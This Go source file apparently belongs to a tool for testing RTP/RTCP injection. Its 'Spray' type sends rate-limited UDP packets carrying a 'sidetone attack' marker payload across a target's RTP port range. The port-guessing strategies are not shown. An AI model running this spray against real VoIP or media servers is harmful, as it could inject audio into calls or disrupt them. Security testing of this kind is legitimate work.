package attack

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"sync/atomic"
	"time"
)

// Config says where a spray goes.
type Config struct {
	Sockets             []*net.UDPConn // where from; each strategy keeps to one, so that a port sees one source from each
	Target              netip.Addr
	FirstPort, LastPort uint16 // the whole range; RTP on even ports, RTCP on odd ones
	Rate                int    // packets/s of all strategies together
	Mark                []byte // what payloads are made of; default "sidetone attack "
	Seed                uint64 // of all that is guessed
}

// DefaultMark is what payloads are made of unless said otherwise.
const DefaultMark = "sidetone attack "

// mostAtOnce bounds what is sent in one go after the spray was kept from running.
const mostAtOnce = 200

// Spray is one attack.
type Spray struct {
	cfg        Config
	strategies []strategy
	sent       atomic.Int64
}

// New returns a spray that waits for Run.
func New(cfg Config) (*Spray, error) {
	if len(cfg.Sockets) == 0 || cfg.Rate <= 0 || cfg.FirstPort%2 != 0 || cfg.LastPort <= cfg.FirstPort {
		return nil, fmt.Errorf("attack: %d sockets, %d packets/s, ports %d-%d", len(cfg.Sockets), cfg.Rate, cfg.FirstPort, cfg.LastPort)
	}
	if len(cfg.Mark) == 0 {
		cfg.Mark = []byte(DefaultMark)
	}
	s := &Spray{cfg: cfg}
	s.strategies = strategies(cfg, rand.New(rand.NewPCG(cfg.Seed, 1)))
	return s, nil
}

// Sent returns how many packets have left so far.
func (s *Spray) Sent() int64 { return s.sent.Load() }

// Run sprays until ctx ends. What the network refuses, as after an ICMP error, counts as not sent.
func (s *Spray) Run(ctx context.Context) error {
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	b := make([]byte, 2048)
	begin, due, turn := time.Now(), 0, 0
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
		now := int(time.Since(begin) * time.Duration(s.cfg.Rate) / time.Second)
		due = max(due, now-mostAtOnce)
		for ; due < now; due++ {
			who := turn % len(s.strategies)
			turn++
			port, n := s.strategies[who].next(b)
			_, err := s.cfg.Sockets[who%len(s.cfg.Sockets)].WriteToUDPAddrPort(b[:n], netip.AddrPortFrom(s.cfg.Target, port))
			switch {
			case errors.Is(err, net.ErrClosed):
				return err
			case err == nil:
				s.sent.Add(1)
			}
		}
	}
}
